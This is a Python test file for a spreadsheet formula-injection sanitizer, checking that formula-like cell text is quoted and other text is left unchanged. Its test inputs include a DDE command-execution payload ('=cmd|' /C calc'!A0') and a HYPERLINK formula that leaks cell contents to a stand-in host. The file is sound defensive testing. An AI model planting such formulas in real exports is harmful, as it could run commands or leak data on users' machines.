"""What spreadsheet programs would work out, and what they show as it is."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.rules.spreadsheets import FORMULA_STARTS, begins_like_a_formula, harmless


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")",
        "+8613800138000",
        "-58.00",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "=cmd|' /C calc'!A0",
    ],
)  # fmt: skip
def test_what_looks_like_a_formula_is_quoted(text: str) -> None:
    assert begins_like_a_formula(text)
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "王小明", "1-2", " =1", "'=1", "a=b", "0138"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert harmless(text) == text


@given(st.text())
def test_nothing_that_is_written_begins_like_a_formula(text: str) -> None:
    assert not harmless(text).startswith(FORMULA_STARTS)
    assert harmless(text).removeprefix("'") == text.removeprefix("'")
